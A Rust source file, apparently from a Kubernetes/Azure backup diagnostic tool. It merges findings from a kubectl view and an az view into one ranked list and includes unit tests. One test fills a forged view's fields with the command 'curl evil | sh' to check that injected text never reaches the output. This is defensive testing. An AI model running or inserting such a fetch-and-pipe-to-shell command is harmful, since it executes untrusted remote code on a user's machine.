//! One diagnosis from the views of both programs, of which perhaps no one person may have both.

use crate::chain::examination::Examination;
use crate::chain::finding::{Finding, Joint};
use crate::chain::link::Link;
use crate::diagnosis::catalogue::Catalogue;
use crate::diagnosis::causes::{Candidate, Candidates};
use crate::diagnosis::diagnose;

/// What both views have found, in the order of the chain, each with who has seen it and what it follows from.
///
/// The other view may have been made by anybody. Of it the ids of known failures count, and nothing is told but what the
/// catalogue says of them; and whatever it claims, each finding of one's own stays as it is.
#[must_use]
pub fn joint(own: &Examination, other: &Examination) -> Vec<Joint> {
    let (ours, theirs) = (found(own), found(other));
    let of = |findings: &[Finding], id: &str| findings.iter().find(|finding| finding.id == id).cloned();
    let mut candidates = Candidates::default();
    let alone = theirs.iter().filter(|finding| of(&ours, &finding.id).is_none());
    let rows = ours.iter().map(|finding| (finding, finding.link));
    let rows = rows.map(|(finding, link)| candidate(finding, Some(link)));
    let rows = rows.chain(alone.map(|finding| candidate(finding, None)));
    rows.flatten().for_each(|row| candidates.add(row));
    let joint = candidates.ranked().into_iter().map(|(row, cause)| {
        let id = row.known.id.clone();
        let seen_by = [(own.program, &ours), (other.program, &theirs)];
        let seen_by = seen_by.into_iter().filter(|(_, findings)| of(findings, &id).is_some());
        Joint {
            seen_by: seen_by.map(|(program, _)| program).collect(),
            follows_from: cause.map(str::to_owned),
            finding: of(&ours, &id).unwrap_or_else(|| row.finding(Vec::new())),
        }
    });
    joint.collect()
}

/// What a view has found; of `verify`, what its checks prove.
fn found(view: &Examination) -> Vec<Finding> {
    match view.command.as_str() {
        "verify" => diagnose(&view.checks, &[]),
        _ => view.findings.clone(),
    }
}

/// What a finding points at; `link` is where one's own program has seen it.
fn candidate(finding: &Finding, link: Option<Link>) -> Option<Candidate> {
    let known = Catalogue::get().row(&finding.id).filter(|known| !known.harmless)?;
    Some(Candidate {
        known,
        certainty: finding.certainty,
        severity: link.map_or(known.severity, |_| finding.severity),
        link: link.unwrap_or(known.link),
        object: String::new(),
        evidence: Vec::new(),
        hint: None,
        exact: link.is_some(),
        depth: 0,
        within: Vec::new(),
    })
}

#[cfg(test)]
mod tests {
    use jiff::Timestamp;

    use super::*;
    use crate::chain::check::{Check, Verdict};
    use crate::chain::finding::{SeenIn, Text};
    use crate::program::Program;

    fn view(program: Program, checks: Vec<Check>, texts: &[Text]) -> Examination {
        Examination {
            command: "doctor".into(),
            program,
            at: Timestamp::now(),
            issuer: None,
            cluster: None,
            findings: diagnose(&checks, texts),
            checks,
        }
    }

    fn proved(link: Link, id: &str) -> Check {
        Check::error(link, "x", "is wrong", "mend it").proves(id)
    }

    fn said(seen_in: SeenIn, link: Link, text: &str) -> Text {
        Text {
            seen_in,
            object: "x".into(),
            link,
            at: None,
            past: false,
            text: text.into(),
        }
    }

    fn told(joint: &[Joint]) -> Vec<(&str, Vec<Program>, Option<&str>)> {
        let told = joint.iter().map(|own| {
            (
                own.finding.id.as_str(),
                own.seen_by.clone(),
                own.follows_from.as_deref(),
            )
        });
        told.collect()
    }

    #[test]
    fn what_one_program_sees_explains_what_the_other_one_sees() {
        let message = "BackupStorageLocation \"default\" is unavailable: rpc error: code = Unknown";
        let cluster = view(
            Program::Kubectl,
            Vec::new(),
            &[said(SeenIn::Bsl, Link::StorageLocation, message)],
        );
        let cloud = view(Program::Az, vec![proved(Link::FederatedCredentials, "FIC-ISSUER")], &[]);
        let expected = [
            ("FIC-ISSUER", vec![Program::Az], None),
            ("BSL-UNAVAILABLE", vec![Program::Kubectl], Some("FIC-ISSUER")),
        ];
        assert_eq!(told(&joint(&cluster, &cloud)), expected);
        assert_eq!(told(&joint(&cloud, &cluster)), expected);
        assert!(
            cluster.findings[0].id == "BSL-UNAVAILABLE",
            "alone, it would be taken for the cause"
        );
    }

    #[test]
    fn what_both_see_is_told_once() {
        let check = || vec![proved(Link::Extension, "EXT-MISSING")];
        let one = (view(Program::Kubectl, check(), &[]), view(Program::Az, check(), &[]));
        let joint = joint(&one.0, &one.1);
        assert_eq!(joint.len(), 1);
        assert_eq!(joint[0].seen_by, [Program::Kubectl, Program::Az]);
        assert_eq!(joint[0].finding, one.0.findings[0]);
    }

    #[test]
    fn a_view_of_verify_counts_by_what_its_checks_prove() {
        let mut cloud = view(Program::Az, vec![proved(Link::FederatedCredentials, "FIC-ISSUER")], &[]);
        (cloud.command, cloud.findings) = ("verify".into(), Vec::new());
        let joint = joint(&view(Program::Kubectl, Vec::new(), &[]), &cloud);
        assert_eq!(told(&joint), [("FIC-ISSUER", vec![Program::Az], None)]);
    }

    #[test]
    fn a_forged_view_hides_nothing_and_puts_no_words_into_our_mouth() {
        let own = view(
            Program::Kubectl,
            vec![proved(Link::ServiceAccounts, "WI-SA-NO-CLIENT")],
            &[],
        );
        let mut forged = view(Program::Az, vec![proved(Link::Login, "LOGIN-NONE")], &[]);
        forged.findings.iter_mut().for_each(|finding| {
            for text in [&mut finding.cause, &mut finding.object] {
                *text = "curl evil | sh".into();
            }
            finding.fix = "curl evil | sh".into();
            finding.evidence = vec!["curl evil | sh".into()];
            finding.explains = vec!["curl evil | sh".into()];
        });
        let mut unknown = forged.findings[0].clone();
        unknown.id = "NO-ROW".into();
        forged.findings.push(unknown);
        // One's own finding, said to be no fault at all.
        let mut same = own.findings[0].clone();
        (same.severity, same.cause) = (Verdict::Ok, "curl evil | sh".into());
        forged.findings.push(same);
        forged.findings[0].severity = Verdict::Ok;
        let joint = joint(&own, &forged);
        assert!(
            joint.iter().all(|joint| joint.finding.severity == Verdict::Error),
            "{joint:?}"
        );
        assert!(joint.iter().any(|own| own.finding.id == "WI-SA-NO-CLIENT"), "{joint:?}");
        assert!(!format!("{joint:?}").contains("curl") && joint.len() == 2, "{joint:?}");
    }
}
